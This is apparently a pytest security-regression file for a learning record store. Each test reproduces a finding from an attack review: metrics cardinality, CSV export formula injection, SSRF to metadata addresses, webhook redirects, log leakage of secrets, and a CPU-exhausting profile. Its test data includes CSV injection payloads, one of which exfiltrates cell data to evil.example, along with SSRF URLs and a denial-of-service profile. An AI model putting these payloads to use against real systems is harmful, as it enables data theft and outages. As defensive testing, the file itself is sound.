"""Attack review of the surfaces added on 2026-11-30 (health/metrics, profiles, exports, aggregations, the
statement browser, automation), on SQLite and PostgreSQL. Each test is one finding reproduced with a
concrete request. Findings in code still being edited by its authors are strict xfails naming the fix
(docs/security.md, "New surfaces (2026-11-30)"); a fix landing turns them into an XPASS, which fails,
so the marker must be removed with it."""
from __future__ import annotations

import http.server
import secrets
import threading

import pytest
from prometheus_client.parser import text_string_to_metric_families

from lrs.app import create_app
from tests.conftest import XapiClient, request_log_lines

EXPORT = "/api/v1/exports/statements"


@pytest.fixture
def metered_app(settings, monkeypatch):
    token = secrets.token_urlsafe(40)
    monkeypatch.setenv("LRS_METRICS", "credential")
    monkeypatch.setenv("LRS_METRICS_TOKEN", token)
    monkeypatch.delenv("PROMETHEUS_MULTIPROC_DIR", raising=False)
    application = create_app(settings)
    yield application, token
    application.extensions["lrs"].close()


def _request_series(application, token) -> list[dict]:
    with application.test_client().get("/metrics", headers={"Authorization": f"Bearer {token}"}) as scrape:
        assert scrape.status_code == 200
        text = scrape.get_data(as_text=True)
    return [sample.labels for family in text_string_to_metric_families(text) for sample in family.samples
            if sample.name == "lrs_http_requests_total"]


def test_metrics_method_label_takes_only_known_methods(metered_app):
    # Found: any anonymous client could add series without bound by sending made-up methods
    # (`curl -X M1234 /xapi/about` added 18 series per method name: counter and histogram buckets), growing
    # every worker's memory and each scrape. RFC 9110 §9: methods are open-ended tokens, so the label keeps
    # the standard ones and counts the rest as one "other".
    application, token = metered_app
    client = application.test_client()
    made_up = [f"M{secrets.token_hex(4).upper()}" for _ in range(5)]
    for method in made_up:
        with client.open("/xapi/about", method=method) as answer:
            assert answer.status_code == 405
    with client.open("/xapi/about", method="GET") as answer:
        assert answer.status_code == 200
    methods = {labels["method"] for labels in _request_series(application, token)}
    assert not methods & set(made_up)
    assert {"GET", "other"} <= methods


# --- Exports: CSV formula injection (OWASP "CSV Injection") -------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def test_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(xapi):
    # Found in this review, fixed by the exports' authors (a46cfcb): a leading single quote on such text cells.
    import csv
    import io
    statements = [{"actor": {"mbox": "mailto:formula@example.com", "name": text},
                   "verb": {"id": "http://adlnet.gov/expapi/verbs/answered"},
                   "object": {"id": "http://example.com/q1"},
                   "result": {"response": text, "score": {"raw": -2}}} for text in FORMULAS]
    with xapi.post_statements(statements) as stored:
        assert stored.status_code == 200
    with xapi.http.get(EXPORT, headers={"Authorization": xapi.headers["Authorization"]},
                       query_string={"columns": "actor.name,result.response,result.score.raw"}) as export:
        assert export.status_code == 200 and export.mimetype == "text/csv"
        rows = list(csv.reader(io.StringIO(export.get_data(as_text=True))))
    assert len(rows) == 1 + len(FORMULAS)
    for row in rows[1:]:
        assert row[3] == "-2"  # a number stays a number
        for cell in row[1:3]:
            assert cell[0] not in "=+-@\t\r", row


# --- Automation: where the server sends requests -----------------------------------------------------------

def _admin_headers(app) -> dict:
    import base64
    username, password = f"attack-{secrets.token_hex(4)}", secrets.token_urlsafe(18)
    app.extensions["lrs"].administration.create_admin("attack-review", username, password)
    return {"Authorization": "Basic " + base64.b64encode(f"{username}:{password}".encode()).decode()}


# Found by the attack review; fixed in automation/forwarding/subscriptions.py (checked_url, refused_host).
@pytest.mark.parametrize("url", ["http://169.254.169.254/latest/meta-data/", "http://[fe80::1]/",
                                 "http://0.0.0.0:6379/"])
def test_a_subscription_to_a_metadata_or_unspecified_address_is_refused(app, store_credential, url):
    headers = _admin_headers(app)
    with app.test_client().post(f"/admin/automation/stores/{store_credential.store_id}/subscriptions",
                                json={"url": url}, headers=headers) as created:
        assert created.status_code == 400, created.get_json()
        assert created.get_json()["path"] == "url"


class _Redirecting(http.server.BaseHTTPRequestHandler):
    hits: list = []

    def log_message(self, *arguments):
        pass

    def do_POST(self):  # noqa: N802 - http.server's name
        self.hits.append(("POST", self.path))
        self.send_response(302)
        self.send_header("Location", "/internal-only")
        self.send_header("Content-Length", "0")
        self.end_headers()

    def do_GET(self):  # noqa: N802
        self.hits.append(("GET", self.path))
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")


def test_support_webhook_does_not_follow_a_redirect_nor_count_it_as_delivered():
    from automation.support.desk import WebhookRefused, post_to_webhook
    _Redirecting.hits = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Redirecting)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        with pytest.raises(WebhookRefused):
            post_to_webhook(f"http://127.0.0.1:{server.server_address[1]}/hook", {"subject": "help"}, "key-1")
    finally:
        server.shutdown()
        server.server_close()
    assert _Redirecting.hits == [("POST", "/hook")]


def test_a_store_credential_reads_no_other_stores_export_cursor_or_profile_report(app, xapi):
    # Verified, kept as a regression: a statement id of store B used by store A as an export cursor is
    # "no statement of this store" (no position leaks), and B's profile report is empty for A.
    from tests.factories import issue_credential
    other = issue_credential(app.extensions["lrs"], "attack other store")
    other_client = XapiClient(app.test_client(), other.key, other.secret)
    with other_client.post_statements({"actor": {"mbox": "mailto:b@example.com"}, "verb": {"id": "http://e.x/v"},
                                       "object": {"id": "http://e.x/o"}}) as stored:
        foreign_id = stored.get_json()[0]
    auth = {"Authorization": xapi.headers["Authorization"]}
    with xapi.http.get(EXPORT, headers=auth, query_string={"cursor": foreign_id}) as resumed:
        assert resumed.status_code == 404 and resumed.get_json()["path"] == "cursor"
    with xapi.http.get(f"/api/v1/profiles/reports/statements/{foreign_id}", headers=auth) as report:
        assert report.status_code in (200, 404)
        assert not (report.get_json() if report.status_code == 200 else [])


# --- Server output: secrets in refused request lines ---------------------------------------------------------

def test_gunicorn_logs_a_refused_request_line_without_its_query_string(database_url, tmp_path):
    # Found: gunicorn's error log wrote a malformed request line whole ("Invalid HTTP request line:
    # 'GET /cmi5/fetch?key=... HTTP/1.1'"), so a one-time fetch key or an agent's address reached the
    # server's output though the access log leaves query strings out (Makefile, docs/operations.md).
    import os
    import socket
    import subprocess
    import sys
    import time

    import requests

    from tests.conftest import SERVER_SECRET, _free_port
    port = _free_port()
    output = tmp_path / "server.log"
    environment = {**os.environ, "LRS_DATABASE_URL": database_url, "LRS_SECRET_KEY": SERVER_SECRET,
                   "LRS_LOG_FORMAT": "json"}
    with output.open("wb") as sink:
        process = subprocess.Popen([sys.executable, "-m", "gunicorn", "-c", "python:lrs.operations.gunicorn_hooks",
                                    "-w", "1", "-b", f"127.0.0.1:{port}", "lrs.wsgi:app"], env=environment,
                                   stdout=sink, stderr=subprocess.STDOUT)
        try:
            deadline = time.monotonic() + 30
            while True:
                try:
                    if requests.get(f"http://127.0.0.1:{port}/health/live", timeout=1).status_code == 200:
                        break
                except requests.RequestException:
                    assert time.monotonic() < deadline, output.read_text()
                    time.sleep(0.1)
            secret = secrets.token_hex(12)
            for line in (f"GET /cmi5/fetch?key={secret}\x01 HTTP/1.1", f"GET  /xapi/statements?agent={secret} HTTP/1.1",
                         f"GET http://user:{secret}@example.com/x HTTP/1.1 extra"):
                with socket.create_connection(("127.0.0.1", port), timeout=5) as connection:
                    connection.sendall(line.encode() + b"\r\nHost: x\r\n\r\n")
                    assert connection.recv(64).startswith(b"HTTP/1.1 400")
            deadline = time.monotonic() + 10
            while output.read_text().count("Invalid request") < 3 and time.monotonic() < deadline:
                time.sleep(0.1)
        finally:
            process.terminate()
            process.wait(timeout=10)
    logged = output.read_text()
    assert logged.count("Invalid request") == 3, logged  # the refusals are still logged ...
    assert secret not in logged  # ... without the query strings or URL credentials they carried
    assert "/cmi5/fetch?[query not logged]" in logged


# --- Request log: who used the new APIs ----------------------------------------------------------------------

def test_the_request_log_names_the_store_and_credential_of_a_profiles_request(app, xapi, store_credential, capsys):
    # Found: /api/v1/profiles kept its principal under a name of its own, so the request log showed
    # store_id null and credential null for profile imports and mode changes (who turned `enforce` on?).
    capsys.readouterr()
    with xapi.http.put("/api/v1/profiles/mode", json={"mode": "report"},
                       headers={"Authorization": xapi.headers["Authorization"]}) as changed:
        assert changed.status_code in (200, 204), changed.get_json()
    lines = [line for line in request_log_lines(capsys.readouterr().err) if line["route"] == "/api/v1/profiles/mode"]
    assert lines and lines[-1]["store_id"] == store_credential.store_id
    assert lines[-1]["credential"] == store_credential.key


# --- Profiles: the cost of checking one statement ------------------------------------------------------------

_HEAVY_VERSION = "https://example.com/attack/heavy/v1"


def _heavy_profile(templates: int, rules: int) -> dict:
    # Templates without determining properties apply to every statement naming the version; each rule's
    # location and selector `$..*` visit every value (linear per rule, as jsonpath.py promises), so one
    # statement costs templates x rules x its size, and the profile (under LRS_PROFILE_MAX_BYTES) picks the
    # first factor: 1,500 x 10 such rules took a worker thread over 300 s on a 46 kB statement (2026-11-30,
    # shared machine), and the thread went on after the client gave up.
    return {"@context": "https://w3id.org/xapi/profiles/context", "id": "https://example.com/attack/heavy",
            "type": "Profile", "conformsTo": "https://w3id.org/xapi/profiles#1.0", "prefLabel": {"en": "heavy"},
            "definition": {"en": "heavy"}, "author": {"type": "Organization", "name": "attacker"},
            "versions": [{"id": _HEAVY_VERSION, "generatedAtTime": "2026-11-30T00:00:00Z"}],
            "templates": [{"id": f"https://example.com/attack/heavy/t{number}", "inScheme": _HEAVY_VERSION,
                           "type": "StatementTemplate", "prefLabel": {"en": "t"}, "definition": {"en": "t"},
                           "rules": [{"location": "$..*", "selector": "$..*", "presence": "included"}] * rules}
                          for number in range(templates)]}


def test_validating_statements_against_a_hostile_profile_is_bounded(app, xapi, monkeypatch):
    # Fixed: the rules of a request share a budget of JSONPath locations visited (LRS_PROFILE_MAX_RULE_STEPS);
    # a statement whose check would spend it is `invalid` with a "not checked" violation, so /validate
    # answers, enforce refuses it with a 400 and nothing runs on unbounded.
    import dataclasses
    import json

    from analytics.profiles import jsonpath
    service = app.extensions["profiles"]
    monkeypatch.setattr(service, "settings", dataclasses.replace(service.settings, max_rule_steps=200_000))
    auth = {"Authorization": xapi.headers["Authorization"]}
    with xapi.http.post("/api/v1/profiles", data=json.dumps(_heavy_profile(200, 10)),
                        content_type="application/ld+json", headers=auth) as imported:
        assert imported.status_code == 201, imported.get_json()
    # A deterministic stand-in for "took too long": count the locations the checks visit and stop them well
    # past the budget (the unbounded check visits tens of millions here).
    visits = {"count": 0}
    children = jsonpath._children

    def counted(value, member):
        visits["count"] += 1
        if visits["count"] > 2_000_000:
            raise AssertionError("the checks of one request visited more than 2,000,000 locations")
        return children(value, member)

    monkeypatch.setattr(jsonpath, "_children", counted)
    statement = {"actor": {"mbox": "mailto:heavy@example.com"}, "verb": {"id": "http://example.com/v"},
                 "object": {"id": "http://example.com/o"},
                 "context": {"contextActivities": {"category": [{"id": _HEAVY_VERSION}]},
                             "extensions": {"http://example.com/big": [[number, [number]] for number in range(600)]}}}
    version_headers = {**auth, "X-Experience-API-Version": "1.0.3"}
    with xapi.http.post("/api/v1/profiles/validate", query_string={"version": _HEAVY_VERSION}, json=statement,
                        headers=version_headers) as checked:
        assert checked.status_code == 200, checked.get_json()
        [outcome] = checked.get_json()
    assert outcome["outcome"] == "invalid" and "not checked" in outcome["violations"][0]["message"]
    visits["count"] = 0
    with xapi.http.put("/api/v1/profiles/mode", json={"mode": "enforce"}, headers=auth) as changed:
        assert changed.status_code == 200
    with xapi.post_statements([statement] * 3) as refused:
        assert refused.status_code == 400 and "not checked" in refused.get_json()["message"], refused.get_json()
    with xapi.http.put("/api/v1/profiles/mode", json={"mode": "off"}, headers=auth) as changed:
        assert changed.status_code == 200


def test_the_request_log_names_the_credential_of_a_support_request(app, xapi, store_credential, capsys):
    capsys.readouterr()
    with xapi.http.post("/api/v1/support/requests", json={"email": "learner@example.com", "subject": "help",
                                                          "message": "I cannot log in"},
                        headers={"Authorization": xapi.headers["Authorization"]}) as submitted:
        assert submitted.status_code == 202, submitted.get_json()
    lines = [line for line in request_log_lines(capsys.readouterr().err) if line["route"] == "/api/v1/support/requests"]
    assert lines and lines[-1]["credential"] == store_credential.key
